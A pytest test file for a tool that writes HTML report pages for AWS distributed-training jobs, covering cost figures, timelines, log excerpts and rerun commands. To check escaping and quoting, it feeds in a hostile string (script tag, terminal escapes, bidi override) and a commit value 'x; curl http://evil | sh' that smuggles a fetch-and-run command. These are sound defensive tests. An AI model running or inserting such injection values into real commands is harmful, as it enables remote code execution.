"""The page of a job: every number on it is found again in the files that it was made from."""

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from awsddp.errors import NotFoundError
from awsddp.spec import load
from awsddp.state import Folder
from awsddp.verbs.context import Context
from awsddp.verbs.report import LOG_LINES, report, reports
from tests.numbers_of_a_page import Page, check

BEGAN = datetime(2026, 11, 22, 12, 0, 0, tzinfo=UTC)
HOSTILE = '<script>alert(1)</script> & "quoted" \x1b[31mred\x1b[0m \x1b]0;title\x07 \u202ebackwards'


def at(seconds: float) -> str:
    return (BEGAN + timedelta(seconds=seconds)).isoformat()


class Home:
    """A home with the cluster `default`, ended, and a project with the results of its jobs."""

    def __init__(self, top: Path) -> None:
        self.project, self.folder = top / "project", Folder(top / "home", "other")
        self.cluster = top / "home" / "history" / "default-0a1b2c3d"
        self.cluster.mkdir(parents=True)
        rates = {"node_usd_per_hour": 5.0, "disk_usd_per_hour": 0.1, "instance_type": "g5.xlarge", "nodes": 2}
        self._rows = [
            self.row(5, "launched", instances=["i-0", "i-1"], target="aws", region="eu-west-1", **rates),
            self.row(65, "ready"),
        ]
        self._calls = [self.call(0, "CreateSecurityGroup"), self.call(2, "DescribeInstances")]
        self._calls += [
            self.call(3, "RunInstances", "InsufficientInstanceCapacity"),
            self.call(4, "RunInstances"),
        ]

    def row(self, seconds: float, event: str, **facts: Any) -> dict[str, Any]:
        return {"time": at(seconds), "event": event, "id": "0a1b2c3d", **facts}

    def call(self, seconds: float, operation: str, error: str | None = None) -> dict[str, Any]:
        return {"operation": operation, "at": at(seconds), "seconds": 0.5, "error": error, "parameters": {}}

    def job(
        self, name: str, began: float, *, state: str = "succeeded", slow: float = 1.0, **more: Any
    ) -> Path:
        """Put the results of a job of four ranks into the project; rank 3 has the pace `slow`."""
        folder = self.project / "runs" / name
        (folder / "logs").mkdir(parents=True)
        ranks = [
            {"rank": rank, "local_rank": rank % 2, "node": rank // 2, "exit_code": 0, "seconds": 20.0 + rank}
            for rank in range(4)
        ]
        for rank in range(4):
            (folder / "logs" / f"rank{rank}.log").write_text(
                "".join(f"rank {rank} line {number}\n" for number in range(60)) + f"{HOSTILE}\n"
            )
            place = folder / f"node{rank // 2}" / "run"
            place.mkdir(parents=True, exist_ok=True)
            pace = slow if rank == 3 else 1.0
            with (place / "metrics.jsonl").open("a") as file:
                for step in range(1, 31):
                    row = {"rank": rank, "step": step, "loss": 2.5 / step, "accuracy": step / 40}
                    file.write(json.dumps(row | {"time": 1000 + step / pace}) + "\n")
        for node in (0, 1):
            sampled = [
                {"rank": rank, "cpu_percent": 400.0 if rank == 3 else 98.5, "network_bytes_per_second": 2e6}
                for rank in (2 * node, 2 * node + 1)
            ]
            (folder / "logs" / f"samples{node}.json").write_text(json.dumps({"ranks": sampled}))
        document = {
            "job": name,
            "state": state,
            "cause": None,
            "ranks": ranks,
            "home": f"runs/{name}",
            "nodes": [{"node": node, "instance_id": f"i-{node}"} for node in (0, 1)],
            "script": "train.py",
            "args": ["--epochs", "3"],
            "commit": "0123456789abcdef",
            "world_size": 4,
            "instance_type": "g5.xlarge",
            "price_usd_per_hour": 10.2,
            "started": (BEGAN + timedelta(seconds=began)).strftime("%Y-%m-%dT%H:%M:%SZ"),
            "ended": (BEGAN + timedelta(seconds=began + 23)).strftime("%Y-%m-%dT%H:%M:%SZ"),
        }
        (folder / "job.json").write_text(json.dumps(document | more))
        self._calls += [self.call(began - 1, "CreateTags"), self.call(began + 26, "DeleteTags")]
        self._rows.append(self.row(began, "train", job=name, home=str(folder)))
        self._rows.append(self.row(began + 25, "fetched", job=name, bytes=10**9, usd=0.09))
        return folder

    def ctx(self) -> Context:
        rows = [*self._rows, self.row(605, "ended")]
        for name, lines in (("ledger", rows), ("calls", self._calls)):
            (self.cluster / f"{name}.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
        spec, job = load("other", overrides={"sync.workdir": str(self.project)}, environ={})
        return Context(spec=spec, job=job, folder=self.folder, on_event=lambda event: None)


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path)


CAUSE = {
    "rank": 2,
    "node": 1,
    "kind": "exit",
    "exit_code": 1,
    "tail": ["Traceback", HOSTILE],
    "explanation": f"FileNotFoundError: {HOSTILE}",
    "next": "awsddp logs",
}
RESTART = {"round": 0, "restart": 1, "max_restarts": 3, "rank": 1, "node": 0, "explanation": "exit code 1"}


@pytest.mark.parametrize(
    "more",
    [
        {},
        {"state": "failed", "cause": CAUSE},
        {"state": "failed", "cause": CAUSE | {"rank": None, "kind": "hang", "tail": [], "next": ""}},
        {"resumed": "before", "options": ["-o", "job.timeout=1h"], "dirty": True},
        {"restarts": [RESTART], "launcher": "torchrun"},
        {"slow": 0.5},
    ],
    ids=["good", "failed", "hung", "resumed", "restarted", "slow"],
)
def test_every_number_on_the_page_is_found_again(home: Home, more: dict[str, Any]) -> None:
    folder = home.job("one", 100, **more)
    document = report(home.ctx(), job="one")
    assert document["page"] == str(folder / "report.html")
    page = Page((folder / "report.html").read_text())
    seen = check(page, document, folder, home.cluster)
    assert seen == {"job.json", "metrics", "ledger", "timeline", "samples", "excerpts", "files"}
    assert document["slowest_rank"] == (3 if "slow" in more else None)
    assert [number for number in page.numbers if number[0].endswith("cpu_percent")] == [
        (f"samples: rank {rank}.cpu_percent", "400.0" if rank == 3 else "98.5") for rank in range(4)
    ]
    assert "400%</data> *" in (folder / "report.html").read_text()
    # two nodes for ten minutes at $5.00 an hour, their disks, a gigabyte; and 23 s of $10.20 an hour
    assert document["costs"] == pytest.approx(
        {
            "machines_usd": 2 * 5.0 / 6,
            "disks_usd": 2 * 0.1 / 6,
            "transfer_usd": 0.09,
            "cluster_usd": 1.79,
            "job_usd": 23 / 3600 * 10.2,
        },
        abs=0.0001,
    )


def test_what_a_node_wrote_is_text_on_the_page_and_nothing_comes_from_elsewhere(home: Home) -> None:
    folder = home.job("one", 100, state="failed", cause=CAUSE, args=[HOSTILE], script=HOSTILE)
    report(home.ctx(), job="one")
    text = (folder / "report.html").read_text()
    page = Page(text)
    assert not {"script", "link", "img", "iframe", "object"} & set(page.tags)
    assert text.count("default-src &#39;none&#39;") + text.count("default-src 'none'") == 1
    for forbidden in ("\x1b", "\x07", "\u202e", "https://", "url(", "<script"):
        assert forbidden not in text
    assert "&lt;script&gt;" in text
    assert "red \\x1b]0;title\\x07 \\u202ebackwards" in text


def test_timeline_tells_calls_that_change_something_and_each_node_from_launch_to_end(home: Home) -> None:
    home.job("one", 100)
    document = report(home.ctx(), job="one")
    steps = [
        tuple(step[key] for key in ("who", "what", "start_s", "end_s", "error"))
        for step in document["timeline"]
    ]
    assert document["timeline_from"] == "2026-11-22T12:00:00Z"
    assert [step for step in steps if step[0] in ("AWS", "this machine", "node1")] == [
        ("AWS", "CreateSecurityGroup", 0.0, 0.5, None),
        ("AWS", "RunInstances", 3.0, 3.5, "InsufficientInstanceCapacity"),
        ("AWS", "RunInstances", 4.0, 4.5, None),
        ("AWS", "CreateTags", 99.0, 99.5, None),
        ("AWS", "DeleteTags", 126.0, 126.5, None),
        ("this machine", "starts the job", 100.0, 100.0, None),
        ("this machine", "fetches results", 125.0, 125.0, None),
        ("node1", "boots and is prepared", 5.0, 65.0, None),
        ("node1", "is ready", 65.0, 605.0, None),
        ("node1", "runs the job", 100.0, 123.0, None),
    ]


def test_commands_that_run_it_again_parse_to_the_same_job(home: Home) -> None:
    home.job("one", 100, args=["a b", "--x"], resumed="before", options=["-o", "job.timeout=1h"])
    assert report(home.ctx(), job="one")["again"] == [
        "git checkout 0123456789abcdef",
        "awsddp up --nodes 2 --instance-type g5.xlarge",
        "awsddp train --timeout 1h --resume before train.py -- 'a b' --x",
        "awsddp down",
    ]


def test_a_commit_that_a_node_words_is_one_word_of_the_command(home: Home) -> None:
    home.job("one", 100, commit="x; curl http://evil | sh")
    assert report(home.ctx(), job="one")["again"][0] == "git checkout 'x; curl http://evil | sh'"


def test_excerpt_is_the_end_of_the_log(home: Home) -> None:
    folder = home.job("one", 100)
    (excerpt,) = report(home.ctx(), job="one")["excerpts"]
    whole = (folder / "logs" / "rank0.log").read_text().splitlines()
    assert (excerpt["rank"], excerpt["lines"]) == (0, whole[-LOG_LINES:])


def test_jobs_of_all_clusters_are_listed_each_with_a_link_to_its_page(home: Home, tmp_path: Path) -> None:
    first, second = home.job("one", 100), home.job("two", 200, state="failed", cause=CAUSE)
    ctx = home.ctx()
    rows, page = reports(ctx)
    assert [(row["job"], row["state"], row["cause"], row["cluster"]) for row in rows] == [
        ("one", "succeeded", None, "default"),
        ("two", "failed", "exit", "default"),
    ]
    assert page == tmp_path / "home" / "report.html"
    text = page.read_text()
    for folder in (first, second):
        assert f'href="../project/runs/{folder.name}/report.html"' in text
        assert (folder / "report.html").is_file()
    assert text.index("two/report.html") < text.index("one/report.html"), "the newest comes first"


def test_a_job_whose_page_cannot_be_written_keeps_no_other_from_theirs(home: Home) -> None:
    first, second = home.job("one", 100), home.job("two", 200)
    (first / "report.html").mkdir()
    rows, page = reports(home.ctx())
    assert [row["page"] for row in rows] == ["", str(second / "report.html")]
    assert "<code>one</code>" in page.read_text() and "one/report.html" not in page.read_text()


def test_job_without_ledger_metrics_or_logs_has_a_page(home: Home) -> None:
    folder = home.job("one", 100, started=None, ended=None, commit=None, script=None)
    for path in (*folder.rglob("*.log"), *folder.rglob("metrics.jsonl")):
        path.unlink()
    ctx = home.ctx()
    (home.cluster / "ledger.jsonl").unlink()
    document = report(ctx, job="one")
    assert (document["costs"], document["cluster"], document["seconds"]) == (None, None, None)
    assert "Timeline" not in (folder / "report.html").read_text()


def test_unknown_job_is_named_with_the_command_that_lists_all(home: Home) -> None:
    with pytest.raises(NotFoundError, match="no job none") as caught:
        report(home.ctx(), job="none")
    assert caught.value.next.startswith("awsddp report ")
